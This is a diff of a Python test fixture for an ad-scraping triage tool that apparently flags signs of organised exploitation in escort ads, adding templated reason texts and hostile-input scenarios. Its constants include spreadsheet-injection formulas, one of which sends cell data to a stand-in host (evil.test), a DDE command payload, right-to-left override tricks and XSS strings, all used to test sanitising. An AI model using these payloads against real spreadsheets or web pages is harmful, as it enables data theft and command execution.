@@ -26,6 +26,8 @@ from crawler.normalise.images import PhotoLimits, process_photo
 from models.ads import Ad, Site
 from models.entities import AdPhone, AdPhoto, AdPlace, AdTemplate, Cluster, Phone, Photo, Place, Template
 from models.review import QueueItem
+from triage.reason_text import decimal, each, listed, percent, render
+from triage.score import Reason
 from triage.templates import template_display
 from videre.db import Database
 from videre.web.accounts import add_user
@@ -55,6 +57,13 @@ BIDI_NUMBER = "070-174 06 06"
 BIDI_BODY = f"مرحبا، أنا ليلى. اتصل \u202e{BIDI_NUMBER}\u202c الآن"
 FORMULAS = ['=HYPERLINK("http://evil.test/?d="&A1,"öppna")', "@SUM(A1:A9)", "+cmd|' /C calc'!A0", "-2+3"]
 SECRET_NAME = "Zelda Hemlig"
+BIDI_CITY = "Upp\u202esala"
+# Reason templates as triage.score writes them (the web renders them per language).
+NAMES_REASON = "The number {phone} is used for {count} women: {names} (ages {ages})."
+MOVEMENT_REASON = "{movers} women seen in {cities} cities, {moves} moves ({per_week} a week): {route}."
+HIDDEN_REASON = ("The number is hidden from scrapers in {share} of the ads "
+                 "(written in words, look-alike letters or split digits).")
+PHOTOS_REASON = "{count} photo(s) used for several women: {examples}."
 TEMPLATE = ("Hej! Jag heter {name} och är {age} år. Ny i {city} denna vecka, diskret och "
             "trevlig lägenhet nära centrum. Ring eller sms:a {phone} för tid. Endast seriösa herrar, "
             "inga dolda nummer. Välkommen!")
@@ -66,6 +75,11 @@ class World:
     ads: dict[str, list[int]] = field(default_factory=dict)
     photos: dict[str, int] = field(default_factory=dict)
     users: dict[str, int] = field(default_factory=dict)
+
+
+def reason(code: str, template: str, params: dict[str, object], weight: float) -> dict[str, object]:
+    """A stored reason as triage writes it: the English text is the template rendered untranslated."""
+    return Reason(code, render(template, params), weight, template, params).to_json()
 
 
 def make_photo(seed: int, size: tuple[int, int] = (480, 640)) -> bytes:
@@ -209,14 +223,16 @@ def _organised(b: Builder, w: World) -> None:
                         city=city, phones=[(phone, shown, ["words"] if i == 2 else [])], photos=photos,
                         extraction=ex))
     _template(b, ads)
-    reasons = [
-        {"code": "many_names_one_number", "text": f"The number {phone} is used under 4 names: anna, bella, carla, dana.",
-         "weight": 2.5},
-        {"code": "observed_movement", "text": "Seen in 3 cities, 2 moves: Malmö (2024-05-01) → Göteborg (2024-05-15) → "
-         "Stockholm (2024-05-22).", "weight": 1.5},
-        {"code": "phone_obfuscated", "text": "The number is hidden from scrapers in 25% of the ads.", "weight": 1.0},
-    ]
     route = [["Malmö", "2024-05-01"], ["Göteborg", "2024-05-15"], ["Stockholm", "2024-05-22"]]
+    reasons = [
+        reason("many_names_one_number", NAMES_REASON,
+               {"phone": phone, "count": 4, "names": listed([name for name, *_ in women]),
+                "ages": listed(sorted(int(age) for _, age, *_ in women))}, 2.5),
+        reason("observed_movement", MOVEMENT_REASON,
+               {"movers": 2, "cities": 3, "moves": 2, "per_week": decimal(2 / 3, 1),
+                "route": {"route": route, "more": False}}, 1.5),
+        reason("phone_obfuscated", HIDDEN_REASON, {"share": percent(0.25)}, 1.0),
+    ]
     w.items["organised"] = b.item(cid, 5.0, reasons, ads, [phone], ["Göteborg", "Malmö", "Stockholm"],
                                   ["anna", "bella", "carla", "dana"], route, T0, T0 + timedelta(days=21))
     w.ads["organised"] = ads
@@ -242,9 +258,17 @@ def _hostile(b: Builder, w: World) -> None:
     ads.append(b.ad(cid, "rosasidan", T0 + timedelta(days=4), title=FORMULAS[0], body=FORMULAS[3],
                     name=FORMULAS[1], age="19", location=FORMULAS[2], city="Uppsala",
                     phones=[(phone, "070-174 06 06", [])]))
+    # A reason from an older run (text only), a malformed one, and one whose parameters are hostile.
     reasons = [{"code": "many_names_one_number", "text": f"The number {phone} is used under 4 names: {XSS_TEXT}",
                 "weight": 2.5},
-               {"code": XSS[0], "text": XSS[1], "weight": 0.5}]
+               {"code": XSS[0], "text": XSS[1], "weight": 0.5, "template": XSS[2], "params": XSS[3]},
+               reason("shared_photos", PHOTOS_REASON,
+                      {"count": 1, "examples": each("photo {label} under {names}",
+                                                    [{"label": XSS[6], "names": listed(XSS[:6], 4)}], "; ")}, 0.5),
+               reason("observed_movement", MOVEMENT_REASON,
+                      {"movers": 2, "cities": 2, "moves": 1, "per_week": decimal(1.75, 1),
+                       "route": {"route": [[BIDI_CITY, "2024-05-01"], [XSS[4], "2024-05-02"]], "more": False}},
+                      0.5)]
     w.items["hostile"] = b.item(cid, 3.0, reasons, ads, [phone, XSS[2]], ["Uppsala", XSS[1]],
                                 [XSS[0], XSS[5]], [["Uppsala", "2024-05-01"], [XSS[4], "2024-05-02"]],
                                 T0, T0 + timedelta(days=4))
